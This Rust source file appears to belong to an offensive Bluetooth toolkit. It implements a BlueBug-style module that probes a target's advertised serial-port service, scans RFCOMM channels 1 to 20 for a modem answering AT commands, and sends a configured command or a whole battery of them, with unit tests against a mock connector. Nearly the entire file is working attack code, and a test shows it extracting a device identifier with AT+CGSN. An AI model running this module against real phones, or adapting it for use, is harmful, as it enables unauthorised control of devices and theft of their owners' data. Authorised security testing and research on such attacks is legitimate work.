//! AT-command abuse over RFCOMM (BlueBug-style).

use async_trait::async_trait;

use bluefang_common::{AttackKind, BdAddr, BlueResult, Transport};

use crate::module::{AttackContext, AttackModule};
use crate::payloads::{is_at_reply, AT_BATTERY};
use crate::probe;

const CHANNELS: std::ops::RangeInclusive<u16> = 1..=20;
const PROBE_COMMAND: &str = "AT";

fn at_line(command: &str) -> Vec<u8> {
    format!("{}\r\n", command).into_bytes()
}

#[derive(Debug, Default)]
pub struct AtCommand {
    channel: Option<u16>,
}

impl AtCommand {
    pub fn new() -> Self {
        Self::default()
    }
}

#[async_trait]
impl AttackModule for AtCommand {
    fn kind(&self) -> AttackKind {
        AttackKind::AtCommand
    }

    async fn check_vulnerability(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let Some(text) = probe::browse(ctx, target).await? else {
            return Ok(false);
        };
        let lower = text.to_lowercase();
        let serial = lower.contains("rfcomm") || lower.contains("serial");
        if serial {
            ctx.log.info("Serial-port service advertised");
        } else {
            ctx.log.warning("No serial-port service advertised");
        }
        Ok(serial)
    }

    async fn exploit(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let probe_line = at_line(PROBE_COMMAND);
        for channel in CHANNELS {
            ctx.cancel.check()?;
            let reply = probe::exchange(ctx, target, Transport::Rfcomm, channel, &probe_line).await?;
            if reply.is_some_and(|r| is_at_reply(&r)) {
                ctx.log.success(format!("Modem answers AT commands on channel {}", channel));
                self.channel = Some(channel);
                return Ok(true);
            }
        }
        Ok(false)
    }

    async fn run_payload(&mut self, target: BdAddr, ctx: &AttackContext) -> BlueResult<bool> {
        let Some(channel) = self.channel else {
            return Ok(false);
        };
        let commands: Vec<&str> = match ctx.config.default_command.as_deref() {
            Some(command) => vec![command],
            None => AT_BATTERY.to_vec(),
        };
        let Some(mut sock) = probe::open(ctx, target, Transport::Rfcomm, channel).await? else {
            ctx.log.error(format!("Channel {} closed", channel));
            return Ok(false);
        };

        let mut answered = 0usize;
        for (i, command) in commands.iter().enumerate() {
            ctx.cancel.check()?;
            if i > 0 {
                ctx.cancel.sleep(ctx.config.delay()).await?;
            }
            if !probe::send(ctx, sock.as_mut(), &at_line(command)).await? {
                ctx.log.warning(format!("{} could not be sent", command));
                break;
            }
            match probe::recv(ctx, sock.as_mut()).await? {
                Some(reply) if is_at_reply(&reply) => {
                    answered += 1;
                    let text = String::from_utf8_lossy(&reply);
                    ctx.log.success(format!("{} -> {}", command, text.trim()));
                }
                Some(_) | None => ctx.log.detail(format!("{} unanswered", command)),
            }
        }
        Ok(answered > 0)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::{target, Harness, MockConnector, Reply};

    #[tokio::test(start_paused = true)]
    async fn configured_command_on_found_channel() {
        let connector = MockConnector::default()
            .accept(Transport::Rfcomm, 2, Reply::Fixed(b"garbage".to_vec()))
            .accept(Transport::Rfcomm, 5, Reply::Fixed(b"\r\n356938035643809\r\nOK\r\n".to_vec()));
        let harness = Harness {
            connector: connector.clone(),
            browse: Some("Service Name: Serial Port\n".into()),
            ..Harness::default()
        };
        let mut module = AtCommand::new();
        assert!(module.execute(target(), &harness.context()).await.unwrap());
        assert_eq!(module.channel, Some(5));
        assert_eq!(
            connector.sent(Transport::Rfcomm, 5),
            vec![b"AT\r\n".to_vec(), b"AT+CGSN\r\n".to_vec()]
        );
    }

    #[tokio::test(start_paused = true)]
    async fn battery_when_no_command_configured() {
        let connector = MockConnector::default().accept(Transport::Rfcomm, 1, Reply::Fixed(b"OK".to_vec()));
        let mut harness = Harness {
            connector: connector.clone(),
            ..Harness::default()
        };
        harness.config.default_command = None;
        let ctx = harness.context();
        let mut module = AtCommand::new();
        assert!(module.exploit(target(), &ctx).await.unwrap());
        assert!(module.run_payload(target(), &ctx).await.unwrap());
        // probe + full battery
        assert_eq!(connector.sent(Transport::Rfcomm, 1).len(), 1 + AT_BATTERY.len());
    }

    #[tokio::test]
    async fn no_modem_fails_exploit() {
        let connector = MockConnector::default().accept(Transport::Rfcomm, 3, Reply::Silent);
        let harness = Harness {
            connector,
            ..Harness::default()
        };
        assert!(!AtCommand::new().exploit(target(), &harness.context()).await.unwrap());
    }

    #[tokio::test]
    async fn check_needs_serial_service() {
        let harness = Harness {
            browse: Some("Service Name: Audio Sink\n".into()),
            ..Harness::default()
        };
        assert!(!AtCommand::new().check_vulnerability(target(), &harness.context()).await.unwrap());
    }
}
